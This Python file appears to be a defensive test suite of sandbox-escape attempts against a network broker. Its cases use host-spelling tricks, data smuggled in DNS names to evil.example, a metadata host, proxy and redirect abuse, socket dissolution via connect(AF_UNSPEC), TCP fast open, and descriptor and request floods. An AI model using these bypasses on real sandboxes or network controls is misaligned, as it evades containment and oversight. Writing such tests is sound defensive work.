"""Attacks on the broker, and on the sockets that it hands out."""

from __future__ import annotations

import asyncio
import os
import socket
import sys
import time
from contextlib import suppress
from typing import TYPE_CHECKING

import aiohttp
import msgspec

from dragoman_worker.lockdown.kernel import NUMBERS, syscall

from .book import FoiledError, Targets, attack
from .network import greeted

if TYPE_CHECKING:
    from asyncio import StreamWriter


def _broker() -> socket.socket:
    sock = socket.socket(fileno=os.dup(int(sys.argv[2])))
    sock.setblocking(True)
    return sock


def _request(**changes: object) -> bytes:
    body = msgspec.msgpack.encode({"t": "open", "id": 1 << 40, "host": "evil.example", "port": 1, **changes})
    return len(body).to_bytes(4, "little") + body


async def _reach(host: str, port: int) -> None:
    reader, writer = await asyncio.open_connection(host, port)
    try:
        if b"welcome" not in await reader.read(200):
            raise FoiledError("no answer")
    finally:
        writer.close()


async def _brokered(targets: Targets) -> tuple[StreamWriter, socket.socket]:
    """Get an approved connection, and the bare socket behind it."""
    _, writer = await asyncio.open_connection("127.0.0.1", targets.port)
    sock = socket.socket(fileno=os.dup(writer.get_extra_info("socket").fileno()))
    return writer, sock


def _dissolve(sock: socket.socket) -> None:
    """`connect(AF_UNSPEC)`: the socket forgets whom it is connected to."""
    syscall(NUMBERS["connect"], sock.fileno(), bytes(16), 16)


@attack
async def broker_other_port(targets: Targets) -> None:
    await _reach("127.0.0.1", targets.other_port)


@attack
async def broker_other_name(targets: Targets) -> None:
    await _reach("other.example", targets.other_port)


@attack
async def broker_other_spelling(targets: Targets) -> None:
    """Name the approved machine's address in a way that is compared as another host."""
    await _reach("::ffff:127.0.0.1", targets.other_port)


@attack
async def broker_name_with_data(targets: Targets) -> None:
    await _reach("the-password-is-hunter2.evil.example", targets.other_port)


@attack
async def broker_trailing_dot(targets: Targets) -> None:
    await _reach("127.0.0.1.", targets.other_port)


@attack
async def broker_address_as_a_number(targets: Targets) -> None:
    await _reach("2130706433", targets.other_port)


@attack
async def broker_moved_name(targets: Targets) -> None:
    await _reach("moved.internal", targets.other_port)


@attack
async def broker_mixed_answer(targets: Targets) -> None:
    await _reach("mixed.internal", targets.other_port)


@attack
async def broker_wrapped_address(targets: Targets) -> None:
    await _reach("wrapped.internal", targets.other_port)


@attack
async def broker_metadata(targets: Targets) -> None:
    await _reach("metadata.internal", targets.other_port)


@attack
async def broker_manifests_host(targets: Targets) -> None:
    await _reach("login.internal", targets.other_port)


@attack
async def broker_redirect(targets: Targets) -> None:
    async with (
        aiohttp.ClientSession() as client,
        client.get(f"http://127.0.0.1:{targets.port}/redirect") as response,
    ):
        if b"welcome" not in await response.read():
            raise FoiledError("no answer")


@attack
async def broker_proxy_from_environment(targets: Targets) -> None:
    os.environ["http_proxy"] = f"http://127.0.0.1:{targets.other_port}"
    try:
        async with (
            aiohttp.ClientSession(trust_env=True) as client,
            client.get(f"http://localhost.example:{targets.port}/") as response,
        ):
            if b"welcome" not in await response.read():
                raise FoiledError("no answer")
    finally:
        del os.environ["http_proxy"]


@attack
async def brokered_dissolve(targets: Targets) -> None:
    writer, sock = await _brokered(targets)
    try:
        _dissolve(sock)
    finally:
        sock.close()
        writer.close()


@attack
async def brokered_reconnect(targets: Targets) -> None:
    writer, sock = await _brokered(targets)
    try:
        _dissolve(sock)
        sock.settimeout(3)
        sock.connect(("127.0.0.1", targets.other_port))
        greeted(sock)
    finally:
        sock.close()
        writer.close()


@attack
async def brokered_fast_open(targets: Targets) -> None:
    """Send the brokered socket elsewhere without `connect`."""
    writer, sock = await _brokered(targets)
    try:
        with suppress(OSError):
            _dissolve(sock)
        sock.setblocking(True)
        sock.sendto(b"hello", socket.MSG_FASTOPEN, ("127.0.0.1", targets.other_port))
        greeted(sock)
    finally:
        sock.close()
        writer.close()


@attack
async def brokered_listen(targets: Targets) -> None:
    writer, sock = await _brokered(targets)
    try:
        with suppress(OSError):
            _dissolve(sock)
        sock.listen()
    finally:
        sock.close()
        writer.close()


@attack
async def broker_two_thousand_opens(targets: Targets) -> None:
    held = []
    try:
        for _ in range(2_000):
            held += [await asyncio.open_connection("127.0.0.1", targets.port)]
    finally:
        for _, writer in held:
            writer.close()


@attack
async def broker_descriptors_to_host(targets: Targets) -> None:
    """Send the host 100 descriptors with a request and with a message."""
    zero = os.open("/dev/zero", os.O_RDONLY)
    with _broker() as broker:
        socket.send_fds(broker, [_request()], [zero] * 100)
    with socket.socket(fileno=os.dup(int(sys.argv[1]))) as control:
        body = msgspec.msgpack.encode({"t": "part", "id": 1, "path": "structure", "piece": "succeeded"})
        socket.send_fds(control, [len(body).to_bytes(4, "little") + body], [zero] * 100)
    os.close(zero)
    await asyncio.sleep(0.1)


@attack
def broker_malformed_request(targets: Targets) -> None:
    with _broker() as broker:
        broker.sendall(b"\x02\x00\x00\x00\xc1\xc1")
    time.sleep(60)


@attack
def broker_long_request(targets: Targets) -> None:
    with _broker() as broker:
        broker.sendall(b"\xff\xff\xff\xff")
    time.sleep(60)


@attack
def broker_flood(targets: Targets) -> None:
    """Ask without ever reading an answer."""
    with _broker() as broker:
        request = _request()
        while True:
            broker.sendall(request)
